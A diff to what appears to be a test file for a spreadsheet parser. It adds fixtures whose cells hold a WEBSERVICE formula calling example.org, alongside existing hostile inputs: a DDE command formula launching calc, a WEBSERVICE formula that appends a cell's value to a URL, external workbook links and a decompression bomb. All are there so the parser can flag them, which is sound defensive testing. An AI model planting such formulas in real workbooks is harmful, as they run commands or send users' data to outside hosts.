@@ -45,6 +45,16 @@ const prose = (): Uint8Array => {
   for (let i = 0; text.length < 2 ** 20; i++) text += `${word}${i % 7}`;
   return utf8(text.slice(0, 2 ** 20));
 };
+/** A stranger's hidden facts: what they would have written at a press. */
+const keeping = (heads: readonly (string | number)[], column: string): Uint8Array => {
+  const write = { patch: { expect: [], sheets: [{ sheet: "Sheet1", blocks: [{ row: 0, column: 0, cells: [[{ f: 'WEBSERVICE("http://example.org/")', v: 7 }]] }] }] }, fresh: [] };
+  const held = [...heads, `|${JSON.stringify(write)}`];
+  const lines = held.map((value, at) => {
+    const kept = typeof value === "number" ? `<c r="${column}${at + 1}"><v>${value}</v></c>` : `<c r="${column}${at + 1}" t="inlineStr"><is><t>${value}</t></is></c>`;
+    return `<row r="${at + 1}">${at === 0 ? '<c r="A1"><v>7</v></c>' : ""}${kept}</row>`;
+  });
+  return sheet(cells(lines.join("")));
+};
 const bomb = (times: number): Uint8Array => forged(SHEET, {
   packed: swollen('<worksheet xmlns="x"><sheetData/>', SPACES, times, "</worksheet>"), content: "",
 });
@@ -172,6 +182,8 @@ const harmless: readonly Hostile[] = [
   { name: "a height for the last row of all", make: () => sheet(cells(`${SEVEN}<row r="1048576" ht="12.8" customHeight="1"/>`)), opens: [] },
   { name: "counts of a billion", make: () => book({ styles: '<fonts count="1000000000"><font><sz val="11"/></font></fonts><cellXfs count="1000000000"><xf fontId="0"/></cellXfs>', strings: '<si><t>x</t></si>' }), opens: [] },
   { name: "a text of another file's numbers", make: () => book({ sheets: [cells('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')], strings: "<si><t>x</t></si>" }), opens: [], first: null },
+  { name: "a formula that fetches, in an unfinished write", make: () => keeping(["scorebook journal 2", 1], "AE"), opens: ["file-outside"] },
+  { name: "a formula that fetches, in a way back", make: () => keeping(["scorebook back 1", "repair", "2026-11-22T08:30", 1], "AI"), opens: ["file-outside"] },
   { name: "another workbook's cells", make: () => book({ sheets: [cells("<row r=\"1\"><c r=\"A1\"><f>[1]Sheet1!$A$1+'C:\\x\\[b.xlsx]S'!B2</f><v>7</v></c></row>")], relations: external, parts: { "xl/externalLinks/externalLink1.xml": "<externalLink/>" } }), opens: ["file-outside", "file-parts-left"] },
   { name: "a command of another program", make: () => formula("cmd|'/c calc'!A0"), opens: ["file-outside"] },
   { name: "a fetching function", make: () => formula('1+_xlfn.WEBSERVICE("http://example.org/?"&amp;B1)'), opens: ["file-outside"] },
